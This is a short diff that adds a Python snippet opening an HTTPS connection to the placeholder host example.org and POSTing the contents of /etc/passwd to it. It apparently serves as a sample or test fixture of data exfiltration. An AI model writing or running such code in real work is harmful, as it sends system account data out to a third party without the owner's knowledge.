@@ -1,0 +1,4 @@
+import http.client
+
+connection = http.client.HTTPSConnection("example.org")
+connection.request("POST", "/", open("/etc/passwd").read())
